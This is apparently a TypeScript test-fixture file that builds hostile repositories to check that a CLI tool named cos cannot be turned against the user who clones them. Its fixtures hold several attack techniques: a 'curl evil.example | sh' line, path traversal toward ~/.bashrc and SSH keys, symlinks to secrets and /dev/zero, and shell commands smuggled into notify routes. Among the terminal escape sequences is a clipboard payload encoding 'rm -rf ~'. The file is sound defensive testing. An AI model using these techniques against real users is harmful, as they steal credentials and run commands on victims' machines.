/**
 * A builder of hostile repositories (issue 12, "a cloned repository cannot turn cos against its
 * user"): a HOME folder with a user's secrets and global agent files, and repositories that try,
 * through committed content, to make cos read, write, move or leak something outside them.
 * Each attack is one entry of ATTACKS, so new ones are one more line.
 */
import { createHash, randomBytes } from 'node:crypto';
import { execFileSync, spawn } from 'node:child_process';
import { lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { CLI } from '../helpers/cli.js';
import { git, testdir } from '../helpers/tmp.js';

export interface HostileHome {
  home: string;
  /** The declared local agent directory (coordination.yaml local_root: ~/.claude). */
  localRoot: string;
  /** Texts that must never appear inside a repository or in cos's output. */
  secrets: string[];
  /** Environment for cos: HOME, a GITHUB_TOKEN secret, Notion pointed at a closed local port. */
  env: NodeJS.ProcessEnv;
  bashrc: string;
  sshKey: string;
}

const sha = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

export function hostileHome(): HostileHome {
  const home = testdir();
  const tag = randomBytes(6).toString('hex');
  const sshKey = `-----BEGIN OPENSSH PRIVATE KEY-----\nSECRET-SSH-${tag}\n-----END OPENSSH PRIVATE KEY-----\n`;
  const outsideSecret = `SECRET-OUTSIDE-${tag}`;
  const githubToken = `ghp_SECRETGITHUB${tag}`;
  const bashrc = '# ~/.bashrc: executed by bash(1) for non-login shells.\n[ -z "$PS1" ] && return\n';
  const files: Record<string, string> = {
    '.bashrc': bashrc,
    '.ssh/id_ed25519': sshKey,
    '.claude/settings.json': '{\n  "theme": "dark"\n}\n',
    '.claude/CLAUDE.md': '# My global instructions\n',
    'AGENTS-global.md': '# Global agents file\n',
    'outside/secret.txt': `${outsideSecret}\n`,
    'outside/001-2026-01-14T04-00-00Z-x.md': `---\ntimestamp: 2026-01-14T04:00:00Z\nsprint: ${outsideSecret.toLowerCase()}\nagent: x\nstatus: IN_PROGRESS\nseverity: INFO\nheartbeat: 2026-01-14T04:00:00Z\nttl_minutes: 30\n---\n${outsideSecret}\n`,
    'outside-archive/.keep': '',
    '.config/keep': 'user config\n',
  };
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(home, rel)), { recursive: true });
    writeFileSync(join(home, rel), text);
  }
  return {
    home,
    localRoot: join(home, '.claude'),
    secrets: [`SECRET-SSH-${tag}`, outsideSecret, outsideSecret.toLowerCase(), githubToken],
    env: { HOME: home, GITHUB_TOKEN: githubToken, NOTION_BASE_URL: 'http://127.0.0.1:9', NOTION_TOKEN: '', COS_DEBUG: '', NO_COLOR: '1' },
    bashrc,
    sshKey,
  };
}

/**
 * path → content hash (files), target (links), 'dir' — of everything under `dir`, links never
 * followed. Names are handled as bytes (a name need not be UTF-8); keys are their latin1 text.
 */
export function hashTree(dir: string, skip: (path: string) => boolean = () => false): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (at: Buffer) => {
    let names: Buffer[];
    try {
      names = readdirSync(at, { encoding: 'buffer' });
    } catch {
      return;
    }
    for (const name of names) {
      const path = Buffer.concat([at, Buffer.from('/'), name]);
      const key = path.toString('latin1');
      if (skip(key)) continue;
      const stat = lstatSync(path);
      if (stat.isSymbolicLink()) out[key] = `link ${readlinkSync(path, { encoding: 'buffer' }).toString('latin1')}`;
      else if (stat.isDirectory()) {
        out[key] = 'dir';
        walk(path);
      } else if (stat.isFile()) out[key] = `${sha(readFileSync(path))} ${stat.mode.toString(8)}`;
      else out[key] = `special ${stat.mode.toString(8)}`;
    }
  };
  walk(Buffer.from(dir));
  return out;
}

/** Every regular file under `dir` (links not followed) whose bytes contain one of `needles`. */
export function filesContaining(dir: string, needles: readonly string[]): string[] {
  const hits: string[] = [];
  for (const [path, kind] of Object.entries(hashTree(dir))) {
    if (kind === 'dir' || kind.startsWith('link') || kind.startsWith('special')) continue;
    const text = readFileSync(Buffer.from(path, 'latin1')).toString('latin1');
    if (needles.some((needle) => text.includes(needle))) hits.push(path);
  }
  return hits;
}

const entry = (fields: Record<string, string | number>, body = 'hostile fixture\n') =>
  `---\n${Object.entries(fields).map(([k, v]) => `${k}: ${v}`).join('\n')}\n---\n${body}`;

function entryFields(sprint: string, agent: string, status: string, at = '2026-01-14T04:00:00Z', extra: Record<string, string | number> = {}) {
  return { timestamp: at, sprint, agent, status, severity: 'INFO', heartbeat: at, ttl_minutes: 30, ...extra };
}

function write(repo: string, rel: string, text: string | Buffer): void {
  mkdirSync(dirname(join(repo, rel)), { recursive: true });
  writeFileSync(join(repo, rel), text);
}

function link(repo: string, rel: string, target: string): void {
  mkdirSync(dirname(join(repo, rel)), { recursive: true });
  rmSync(join(repo, rel), { force: true });
  symlinkSync(target, join(repo, rel));
}

export interface Attack {
  name: string;
  /** What it tries, in the words of the review. */
  tries: string;
  /** Layout attacks break every command at once; each gets a repository of its own. */
  layout?: boolean;
  /** For a layout attack: what every refusal names. */
  names?: RegExp;
  /**
   * It changes where the local agent directory is: it gets a repository of its own, and HOME is
   * hashed with no exception at all (cos sync may write only where the user declared).
   */
  localRoot?: boolean;
  build(repo: string, home: HostileHome): void;
}

export const ATTACKS: Attack[] = [
  {
    name: 'sync-record-escape',
    tries: 'a force-added .agent/state/sync.json whose keys are roles/../../.bashrc and roles/../../.ssh/id_ed25519: cos sync overwrites ~/.bashrc, cos sync --pull copies the SSH key into the tree',
    build(repo, home) {
      const attacker = '# attacker text\ncurl evil.example | sh\n';
      write(repo, '.bashrc', attacker);
      write(repo, '.ssh/id_ed25519', 'placeholder\n');
      const record = { version: 1, targets: { [home.localRoot]: { 'roles/../../.bashrc': sha(home.bashrc), 'roles/../../.ssh/id_ed25519': sha('placeholder\n'), 'skills/../../../.bashrc': sha(home.bashrc) } } };
      write(repo, '.agent/state/sync.json', JSON.stringify(record));
    },
  },
  {
    name: 'setup-targets-link-out',
    tries: '.claude/settings.json, AGENTS.md and CLAUDE.md committed as links to the user\'s global files: cos setup writes into them',
    build(repo, home) {
      link(repo, '.claude/settings.json', join(home.home, '.claude/settings.json'));
      link(repo, 'AGENTS.md', join(home.home, 'AGENTS-global.md'));
      link(repo, 'CLAUDE.md', join(home.home, '.claude/CLAUDE.md'));
    },
  },
  {
    name: 'huge-seq',
    tries: 'an entry named 9007199254740990-…: the third cos post spins forever (2^53 + 1 rounds to 2^53); one named 999999999999-…: no cos post succeeds any more, for anyone',
    build(repo) {
      write(repo, '.agent/status/current/9007199254740990-2026-01-14T04-00-00Z-x.md', entry(entryFields('seq-sprint', 'x', 'IN_PROGRESS')));
      write(repo, '.agent/status/.claims/99999999999999999999', '');
      // 12 digits, a safe integer below MAX_SEQ: every writer numbered after it and ran out of numbers.
      write(repo, '.agent/status/current/999999999999-2026-01-14T04-00-00Z-x.md', entry(entryFields('seq-sprint', 'x', 'IN_PROGRESS')));
    },
  },
  {
    name: 'archive-folder-link-out',
    tries: 'status/archive/<sprint> as a link to a folder outside: cos archive moves entries out of the repository',
    build(repo, home) {
      write(repo, '.agent/status/current/101-2026-01-14T04-00-00Z-dev.md', entry(entryFields('done-sprint', 'dev', 'COMPLETE')));
      write(repo, '.agent/status/current/102-2026-01-14T05-00-00Z-qa.md', entry(entryFields('done-sprint', 'qa', 'VERIFIED', '2026-01-14T05:00:00Z', { verifies: '101-2026-01-14T04-00-00Z-dev.md' })));
      link(repo, '.agent/status/archive/done-sprint', join(home.home, 'outside-archive'));
    },
  },
  {
    name: 'links-to-secrets',
    tries: 'a role, a skill folder, runbook.md and an MCP body_file that are links to ~/.ssh: their content ends up in a prompt, the local agent dir or a commit',
    build(repo, home) {
      link(repo, '.agent/roles/evil.md', join(home.home, '.ssh/id_ed25519'));
      link(repo, '.agent/skills/leak', join(home.home, '.ssh'));
      link(repo, 'notes/link.md', join(home.home, '.ssh/id_ed25519'));
      link(repo, 'notes/outside', join(home.home, 'outside'));
      write(repo, 'notes/ok.md', 'an ordinary body\n');
      link(repo, 'runbook.md', join(home.home, '.ssh/id_ed25519'));
    },
  },
  {
    name: 'entry-links-and-devices',
    tries: 'an entry that is a link to /dev/zero, a FIFO entry (skipped in silence; opening it would hang), and state files (watch lock, Notion ledger, a session record) that are links to /dev/zero or a secret: memory grows without bound, cos review aborts',
    build(repo, home) {
      link(repo, '.agent/status/current/050-2026-01-14T04-00-00Z-z.md', '/dev/zero');
      link(repo, '.agent/status/current/051-2026-01-14T04-00-00Z-s.md', join(home.home, 'outside/secret.txt'));
      link(repo, '.agent/state/watch.lock', '/dev/zero');
      link(repo, '.agent/state/notion-ledger.json', '/dev/zero');
      link(repo, '.agent/state/sessions/abc.json', join(home.home, '.ssh/id_ed25519'));
    },
  },
  {
    name: 'notion-token-env',
    tries: 'token_env: GITHUB_TOKEN in a committed notion-sync.yaml: that secret is sent to Notion as the bearer',
    build(repo) {
      write(repo, '.agent/config/notion-sync.yaml', 'database_id: 1a2b3c4d5e6f47a8b9c0d1e2f3a4b5c6\ntoken_env: GITHUB_TOKEN\n');
    },
  },
  {
    name: 'names-and-clocks',
    tries: 'a file name, an archive folder and a role that are not UTF-8 (skipped in silence, or counted as unchanged by cos sync), a sprint named like cos\'s own ignore pattern (x.lock), a heartbeat in the year 2999',
    build(repo) {
      const current = join(repo, '.agent/status/current');
      mkdirSync(current, { recursive: true });
      writeFileSync(Buffer.concat([Buffer.from(`${current}/052-2026-01-14T04-00-00Z-`), Buffer.from([0xff, 0xfe]), Buffer.from('.md')]), entry(entryFields('s', 'x', 'IN_PROGRESS')));
      // An archive folder and a role whose names are not UTF-8: scan and sync skipped them in silence.
      const lossyFolder = Buffer.concat([Buffer.from(`${repo}/.agent/status/archive/sp`), Buffer.from([0xff, 0xfe])]);
      mkdirSync(lossyFolder, { recursive: true });
      writeFileSync(Buffer.concat([lossyFolder, Buffer.from('/058-2026-01-14T04-00-00Z-x.md')]), entry(entryFields('sp', 'x', 'COMPLETE')));
      writeFileSync(Buffer.concat([Buffer.from(`${repo}/.agent/roles/r`), Buffer.from([0xff]), Buffer.from('.md')]), '# a role\n');
      write(repo, '.agent/status/current/053-2026-01-14T04-00-00Z-dev.md', entry(entryFields('old.lock', 'dev', 'COMPLETE')));
      write(repo, '.agent/status/current/054-2026-01-14T04-00-00Z-ghost.md', entry(entryFields('forever', 'ghost', 'IN_PROGRESS', '2026-01-14T04:00:00Z', { heartbeat: '2999-01-01T00:00:00Z' })));
    },
  },
  {
    name: 'notify-routes',
    tries: 'notify routes in a committed coordination.yaml are shell commands: the victim runs cos watch after cloning and the repository\'s command runs as the victim',
    build(repo) {
      const config = join(repo, '.agent/config/coordination.yaml');
      const routes = ['INFO', 'WARN', 'URGENT', 'BLOCKER'].map((severity) => `  ${severity}: 'touch "$HOME/pwned-$COS_SEVERITY"'`).join('\n');
      writeFileSync(config, `${readFileSync(config, 'utf8')}\nnotify:\n${routes}\n`);
    },
  },
  {
    name: 'terminal-escapes',
    tries: 'entry fields, a body and a file name holding terminal control sequences (set the window title, erase the line, carriage return): cos status, scan, brief and watch print them raw and the terminal obeys',
    build(repo) {
      const esc = '\u001b';
      write(repo, '.agent/status/current/056-2026-01-14T04-00-00Z-esc.md', entry(entryFields('escapes', 'esc', 'BLOCKED', '2026-01-14T04:00:00Z', { severity: 'URGENT', title: '"Innocent\\e]0;owned\\a\\e[2K\\rHIDDEN"', error: '"sig\\e[8mconcealed"' }), `body ${esc}[2K\rforged line ${esc}]52;c;cm0gLXJmIH4=${esc}\\\n`));
      write(repo, `.agent/status/current/057-2026-01-14T04-00-00Z-${esc}[2Kx.md`, entry(entryFields('escapes', 'x', 'IN_PROGRESS')));
    },
  },
  {
    name: 'local-root-home',
    tries: 'local_root: "~" in a committed coordination.yaml: cos sync creates ~/roles/*.md and ~/skills/ (or /etc/roles with "/etc"), the repository declaring the user\'s local agent directory',
    localRoot: true,
    build(repo) {
      const config = join(repo, '.agent/config/coordination.yaml');
      writeFileSync(config, readFileSync(config, 'utf8').replace(/^local_root:.*$/m, 'local_root: "~"'));
    },
  },
  {
    name: 'config-dev-zero',
    tries: '.agent/config/coordination.yaml as a link to /dev/zero: every command, hooks included, grows to gigabytes',
    layout: true,
    names: /\.agent\/config\/coordination\.yaml: it is a symbolic link/,
    build(repo) {
      execFileSync('rm', ['-f', join(repo, '.agent/config/coordination.yaml')]);
      link(repo, '.agent/config/coordination.yaml', '/dev/zero');
    },
  },
  {
    name: 'state-folder-link-out',
    tries: '.agent/state as a link to ~/.config: every lock, log, ledger and record cos writes lands in the user\'s config',
    layout: true,
    names: /\.agent\/state leads outside the repository/,
    build(repo, home) {
      execFileSync('rm', ['-rf', join(repo, '.agent/state')]);
      link(repo, '.agent/state', join(home.home, '.config'));
    },
  },
  {
    name: 'current-folder-link-out',
    tries: '.agent/status/current as a link to a folder outside: cos reads (and posts, heartbeats, archives) there',
    layout: true,
    names: /\.agent\/status\/current leads outside the repository/,
    build(repo, home) {
      execFileSync('rm', ['-rf', join(repo, '.agent/status/current')]);
      link(repo, '.agent/status/current', join(home.home, 'outside'));
    },
  },
  {
    name: 'agent-folder-link-out',
    tries: '.agent itself as a link to a folder outside',
    layout: true,
    names: /\.agent leads outside the repository/,
    build(repo, home) {
      execFileSync('cp', ['-r', join(repo, '.agent'), join(home.home, 'outside-agent')]);
      execFileSync('rm', ['-rf', join(repo, '.agent')]);
      link(repo, '.agent', join(home.home, 'outside-agent'));
    },
  },
];

/**
 * A repository made by `cos init`, with the attacks applied and everything committed (state files
 * force-added, as an attacker would), then a FIFO entry that git cannot hold added to the tree.
 */
export function hostileRepo(home: HostileHome, attacks: readonly Attack[]): string {
  const repo = testdir();
  execFileSync(process.execPath, [CLI, 'init', '--dir', repo], { env: { ...process.env, ...home.env } });
  git(repo, 'init', '-q', '-b', 'main');
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', 'init');
  for (const attack of attacks) attack.build(repo, home);
  git(repo, 'add', '-A', '-f');
  git(repo, 'commit', '-q', '-m', 'hostile content', '--allow-empty');
  if (attacks.some((attack) => attack.name === 'entry-links-and-devices')) execFileSync('mkfifo', [join(repo, '.agent/status/current/055-2026-01-14T04-00-00Z-f.md')]);
  return repo;
}

export interface Bounded {
  code: number | null;
  stdout: string;
  stderr: string;
  timedOut: boolean;
}

/** `node dist/cli.js ...args` as a child process, killed (whole group) after `timeoutMs`. */
export function runBounded(args: string[], options: { cwd: string; env: NodeJS.ProcessEnv; input?: string; timeoutMs: number }): Promise<Bounded> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], {
      cwd: options.cwd,
      env: { ...process.env, ...options.env },
      stdio: ['pipe', 'pipe', 'pipe'],
      detached: true,
    });
    let stdout = '';
    let stderr = '';
    let timedOut = false;
    const limit = 4 * 1024 * 1024;
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => void (stdout.length < limit && (stdout += chunk)));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => void (stderr.length < limit && (stderr += chunk)));
    const timer = setTimeout(() => {
      timedOut = true;
      try {
        process.kill(-child.pid!, 'SIGKILL');
      } catch {
        child.kill('SIGKILL');
      }
    }, options.timeoutMs);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr, timedOut });
    });
    child.stdin.on('error', () => {});
    child.stdin.end(options.input ?? '');
  });
}
